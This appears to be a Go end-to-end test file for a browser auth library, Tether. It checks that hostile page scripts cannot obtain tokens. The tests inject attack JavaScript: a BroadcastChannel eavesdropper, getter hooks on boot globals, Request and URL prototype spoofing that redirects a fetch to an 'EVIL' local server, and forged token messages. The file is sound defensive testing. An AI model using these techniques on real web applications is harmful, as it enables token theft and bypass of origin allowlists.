package e2e

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/tetherauth/tether/bff/devprovider"
)

// The attacks of a hostile script on the page (issue 9 §4): what Tether
// hands out on its own must not reach it. Such a script can always POST
// /bff/token itself (see the README's security model); these tests check
// that Tether gives it nothing more: no token through the tabs' channel or
// a global it can hook before Tether loads, no token sent to an origin
// outside apiOrigins however the URL is dressed up, and no token of the
// attacker's own taken up by the user's calls.

// handshakeName is the global through which the WebAssembly client hands
// its bridge to tether.js: it exists only while go.run starts the Go
// program (see web/tether.js).
const handshakeName = "__tether_handshake"

// preload runs script in every new document of tab before the page's own
// scripts, as a script placed first on the page would.
func preload(t testing.TB, tab context.Context, script string) {
	t.Helper()
	step, done := context.WithTimeout(tab, stepTimeout)
	defer done()
	if _, err := chromedp.Call(step, cdppage.AddScriptToEvaluateOnNewDocument, cdppage.AddScriptToEvaluateOnNewDocumentParams{Source: script}); err != nil {
		t.Fatalf("adding a script to new documents: %v", err)
	}
}

// TestHostileChannelListener: a script listening on the tabs'
// BroadcastChannel hears the news of a refresh, never a token; the
// listener is there from the first document on, through the login, the
// first token and a forced refresh after an API's 401.
func TestHostileChannelListener(t *testing.T) {
	s := startStack(t, stackOptions{autoApprove: true})
	tab := newTab(t)
	preload(t, tab, `window.__heard = [];
		new BroadcastChannel("tether").onmessage = (e) => {
			let text;
			try { text = JSON.stringify(e.data); } catch { text = String(e.data); }
			window.__heard.push(text);
		};`)
	p := openPage(t, tab, s)
	p.login(false)
	p.waitFor(`window.tether.state().connected`, stepTimeout, "a first token")
	if n := s.d.Dev.ExpireAccessTokens(""); n == 0 {
		t.Fatal("the dev provider expired no token")
	}
	if r := p.callAPI(); r.Status != "200" {
		t.Fatalf("call after /control/expire: %+v; want 200 after the forced refresh", r)
	}
	p.waitFor(`window.__heard.length > 0`, 5*time.Second, "a message on the channel (the forced refresh)")
	heard := evalJS[[]string](p, `window.__heard`)
	t.Logf("the listener heard: %q", heard)
	for _, m := range heard {
		if strings.Contains(m, devprovider.PrefixAccessToken) {
			t.Errorf("a BroadcastChannel listener heard a token: %.60s…", m)
		}
	}
}

// TestHostileBootHook: a script that runs before tether.js defines
// accessors on the globals Tether used (or uses) to hand over the Go side.
// It must catch no bridge and no token; a configurable accessor does not
// stop Tether, a non-configurable one on the handshake makes it refuse to
// start rather than hand anything out.
func TestHostileBootHook(t *testing.T) {
	cases := []struct {
		name         string
		configurable bool
	}{
		{"__tether_ready", true},
		{"__tether_ready", false},
		{handshakeName, true},
		{handshakeName, false},
	}
	for _, c := range cases {
		t.Run(c.name+" configurable="+strconv.FormatBool(c.configurable), func(t *testing.T) {
			pageURL, apiURL := smokePair(t)
			tab := newTab(t)
			preload(t, tab, `window.__stolen = [];
				(() => {
					let v;
					Object.defineProperty(globalThis, `+strconv.Quote(c.name)+`, {
						configurable: `+strconv.FormatBool(c.configurable)+`,
						get() { return typeof v === "function" ? (...a) => { window.__stolen.push(...a); return v(...a); } : v; },
						set(x) { v = x; },
					});
				})();`)
			step, done := context.WithTimeout(tab, stepTimeout)
			defer done()
			if err := chromedp.Do(step, chromedp.Navigate(pageURL+"/smoke.html")); err != nil {
				t.Fatal(err)
			}
			type outcome struct {
				Started bool     `json:"started"`
				Error   string   `json:"error"`
				Auth    string   `json:"auth"`
				Stolen  int      `json:"stolen"`
				Tokens  []string `json:"tokens"`
				Left    bool     `json:"left"`
			}
			o := smokeEval[outcome](t, tab, `
				const out = { started: false, error: "", auth: "", tokens: [] };
				try {
					const t = await Tether.start({ bff: "/bff", apiOrigins: [`+strconv.Quote(apiURL)+`] });
					out.started = true;
					const r = await t.fetch(`+strconv.Quote(apiURL+"/me")+`);
					out.auth = r.ok ? (await r.json()).auth : "status " + r.status;
				} catch (e) { out.error = String(e && e.message); }
				out.stolen = window.__stolen.length;
				for (const b of window.__stolen) { // what the attacker would do with a bridge
					try {
						const call = typeof b === "function" ? b : b.call.bind(b);
						out.tokens.push(String(await call("token")));
					} catch (e) { out.tokens.push("error: " + e); }
				}
				out.left = Object.getOwnPropertyDescriptor(globalThis, `+strconv.Quote(handshakeName)+`) !== undefined;
				return out;`)
			t.Logf("%+v", o)
			if o.Stolen != 0 {
				t.Errorf("the hook caught %d values from Tether's start (and then got %q)", o.Stolen, o.Tokens)
			}
			for _, tok := range o.Tokens {
				if strings.HasPrefix(tok, "tok-") {
					t.Errorf("the hook got the token %q", tok)
				}
			}
			if o.Left && !(c.name == handshakeName && !c.configurable) { // that one is the attacker's
				t.Errorf("globalThis.%s is still defined after the start", handshakeName)
			}
			switch {
			case c.configurable && (!o.Started || o.Auth != "Bearer tok-1"):
				t.Errorf("with a configurable hook Tether should start and work: started %v, error %q, API saw %q", o.Started, o.Error, o.Auth)
			case !c.configurable && !o.Started && !strings.Contains(o.Error, c.name):
				t.Errorf("Tether refused to start with %q; want an error naming %s", o.Error, c.name)
			}
		})
	}
}

// smokePair serves the smoke page (tether.js, the real wasm, a fake BFF)
// and a fake API on another origin; it returns both URLs.
func smokePair(t *testing.T) (pageURL, apiURL string) {
	t.Helper()
	files := smokeWeb(t)
	bff := &smokeBFF{life: time.Hour, buffer: 5 * time.Minute}
	api := &smokeAPI{refused: map[string]bool{}}
	apiSrv := httptest.NewServer(api)
	t.Cleanup(apiSrv.Close)
	mux := http.NewServeMux()
	mux.Handle("/bff/", bff)
	mux.Handle("/", files)
	pageSrv := httptest.NewServer(mux)
	t.Cleanup(pageSrv.Close)
	api.page = pageSrv.URL
	return pageSrv.URL, apiSrv.URL
}

// hostileSetup is a signed-in demo page and an origin outside apiOrigins
// that would accept a token (CORS allows Authorization) and says whether
// one came.
func hostileSetup(t *testing.T) (*stack, *page, *authEcho, string) {
	t.Helper()
	s := startStack(t, stackOptions{autoApprove: true, csp: loopbackCSP})
	echo := &authEcho{page: s.d.URL}
	echoSrv := httptest.NewServer(echo)
	t.Cleanup(echoSrv.Close)
	p := openPage(t, newTab(t), s)
	p.login(false)
	p.waitFor(`window.tether.state().connected`, stepTimeout, "a first token")
	return s, p, echo, echoSrv.URL
}

// hostileFetch runs one attack: body is the inside of an async function
// that has API (the API's /api/public), ORIGIN (the API origin) and EVIL
// (the foreign server's /echo) and returns a Response from tether.fetch.
// It returns the JSON answer of whichever server answered.
func hostileFetch(t *testing.T, p *page, s *stack, evil, body string) map[string]any {
	t.Helper()
	return evalJS[map[string]any](p, `(async () => {
		const API = `+strconv.Quote(s.d.DevURL+"/api/public")+`, ORIGIN = `+strconv.Quote(s.d.DevURL)+`, EVIL = `+strconv.Quote(evil+"/echo")+`;
		const res = await (async () => {`+body+`})();
		return await res.json();
	})()`)
}

// wantNoTokenAt fails the test if the foreign server saw an Authorization
// header; it returns how many requests it saw.
func wantNoTokenAt(t *testing.T, echo *authEcho) int {
	t.Helper()
	echo.mu.Lock()
	defer echo.mu.Unlock()
	for _, auth := range echo.seen {
		if auth != "" {
			t.Errorf("the origin outside apiOrigins received Authorization %q", redact(auth))
		}
	}
	return len(echo.seen)
}

// TestHostileRequestURL: a Request whose url says "API origin" while it
// goes elsewhere. The allowlist must check the URL that fetch uses.
func TestHostileRequestURL(t *testing.T) {
	cases := []struct{ name, body string }{
		{"an own url getter on the Request", `
			const r = new Request(EVIL);
			Object.defineProperty(r, "url", { get: () => API });
			return window.tether.fetch(r);`},
		{"Request.prototype.url redefined", `
			const d = Object.getOwnPropertyDescriptor(Request.prototype, "url");
			Object.defineProperty(Request.prototype, "url", { configurable: true, get() { return API; } });
			try { return await window.tether.fetch(new Request(EVIL)); }
			finally { Object.defineProperty(Request.prototype, "url", d); }`},
		{"URL.prototype.origin redefined", `
			const d = Object.getOwnPropertyDescriptor(URL.prototype, "origin");
			Object.defineProperty(URL.prototype, "origin", { configurable: true, get() { return ORIGIN; } });
			try { return await window.tether.fetch(EVIL); }
			finally { Object.defineProperty(URL.prototype, "origin", d); }`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s, p, echo, evil := hostileSetup(t)
			got := hostileFetch(t, p, s, evil, c.body)
			if n := wantNoTokenAt(t, echo); n != 1 {
				t.Errorf("the foreign server saw %d requests; want the one the Request names", n)
			}
			if got["authorization_header"] != false {
				t.Errorf("answer %v; want the foreign server's, without Authorization", got)
			}
		})
	}
}

// TestHostileToString: an input whose string form changes between two
// reads (the allowlist reads one URL, fetch another). Tether must read it
// once and fetch what it checked.
func TestHostileToString(t *testing.T) {
	cases := []struct{ name, body string }{
		{"an object", `
			let n = 0;
			return window.tether.fetch({ toString: () => (n++ === 0 ? API : EVIL) });`},
		{"a URL with its own toString", `
			const u = new URL(API);
			let n = 0;
			u.toString = () => (n++ === 0 ? API : EVIL);
			return window.tether.fetch(u);`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s, p, echo, evil := hostileSetup(t)
			got := hostileFetch(t, p, s, evil, c.body)
			if n := wantNoTokenAt(t, echo); n != 0 {
				t.Errorf("the foreign server saw %d requests; want none (the URL read once is the API's)", n)
			}
			if got["ok"] != true || got["authorization_header"] != true {
				t.Errorf("answer %v; want the API's /api/public, with the token", got)
			}
		})
	}
}

// TestHostileTokenInjection: a script posts the attacker's own valid token
// (Bob's) on the tabs' channel, in the old message form and dressed as
// news. Alice's calls must still carry Alice's token.
func TestHostileTokenInjection(t *testing.T) {
	s := startStack(t, stackOptions{})
	alice := openPage(t, newTab(t), s)
	alice.login(true)
	alice.waitFor(`window.tether.state().connected`, stepTimeout, "Alice's first token")

	bob := openPage(t, newTab(t), s) // another browser context: Bob's own session
	bob.markOld()
	bob.click(selConnect)
	bob.waitFor(`location.origin === `+strconv.Quote(s.d.DevURL)+` && !!document.querySelector("#login-bob")`, stepTimeout, "the consent page")
	bob.click("#login-bob")
	bob.waitReady()
	bobToken := evalJS[string](bob, `(async () => (await (await fetch("/bff/token", { method: "POST", headers: { "X-CSRF": "1" } })).json()).access_token)()`)
	if !strings.HasPrefix(bobToken, devprovider.PrefixAccessToken) {
		t.Fatalf("Bob's token %q", redact(bobToken))
	}
	if r := alice.callAPI(); r.Status != "200" || !strings.Contains(r.Text, `"alice"`) {
		t.Fatalf("Alice's call before the attack: %+v", r)
	}
	evalJS[bool](alice, `(() => {
		const c = new BroadcastChannel("tether"), tok = `+strconv.Quote(bobToken)+`, now = Math.floor(Date.now() / 1000);
		c.postMessage({ access_token: tok, token_type: "Bearer", expires_at: now + 3600, expires_in: 3600, refresh_buffer: 60 });
		c.postMessage({ news: "refreshed", access_token: tok, token_type: "Bearer", expires_at: now + 3600, expires_in: 3600 });
		c.postMessage({ news: { access_token: tok }, token: tok });
		c.close();
		return true;
	})()`)
	time.Sleep(500 * time.Millisecond) // let the messages arrive and any request they cause land
	for i := range 3 {
		r := alice.callAPI()
		if r.Status != "200" || !strings.Contains(r.Text, `"alice"`) || strings.Contains(r.Text, `"bob"`) {
			t.Errorf("Alice's call %d after the attack: %+v; want 200 as alice", i+1, r)
		}
	}
}
